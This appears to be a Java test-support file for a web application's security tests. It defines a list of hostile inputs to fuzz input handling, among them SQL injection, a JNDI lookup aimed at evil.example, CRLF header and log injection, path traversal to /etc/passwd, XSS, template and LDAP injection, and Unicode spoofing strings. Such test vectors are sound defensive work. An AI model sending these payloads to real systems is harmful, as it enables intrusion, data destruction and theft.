package dev.signet.web.attack;

import com.fasterxml.jackson.databind.JsonNode;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/** What nobody means well who types it. */
final class NaughtyTexts {

    private static final List<String> OWN = List.of(
            "",
            " ",
            "\u0000",
            "root\u0000",
            "\u0000root",
            "\u0007\u001b[31m\u007f",
            "root\r\nSet-Cookie: __Http-signet=evil",
            "\r\n\r\n<script>alert(1)</script>",
            "x\r\n2026-01-01T00:00:00.000Z INFO  [] dev.signet - forged",
            "x\u2028\u2029\u0085y",
            "\u202eevil",
            "\u2066\u2067\u2068x\u2069",
            "\u200b\u200d\ufeff",
            "r\u043e\u043et",
            "\uff52\uff4f\uff4f\uff54",
            "\u212aelvin",
            "\u0130stanbul",
            "e\u0301".repeat(60),
            "Z\u0351\u036b\u0343".repeat(40),
            "\ud83d\ude00".repeat(70),
            "\ud800",
            "\udc00\ud800",
            "\ufffe\uffff",
            "' OR '1'='1",
            "root'--",
            "1; DROP TABLE users",
            "\" OR SLEEP(1)#",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}}#{7*7}<%= 7*7 %>",
            "%s%n%x%00%0d%0a",
            "../../../../etc/passwd",
            "..%2f..%5c..%00",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "javascript:alert(1)",
            "*)(uid=*",
            "-1",
            "99999999999999999999999999",
            "NaN",
            "null",
            "true",
            "[object Object]",
            "\\",
            "x".repeat(1025),
            "x".repeat(5000));

    private NaughtyTexts() {}

    static Set<String> all() {
        Set<String> all = new LinkedHashSet<>(OWN);
        Vectors.json("blns/blns.json").ifPresent(list -> list.forEach((JsonNode text) -> all.add(text.asText())));
        for (String folder : List.of("sqli", "crlf", "redirect")) {
            Vectors.lines(folder).ifPresent(all::addAll);
        }
        return all;
    }
}
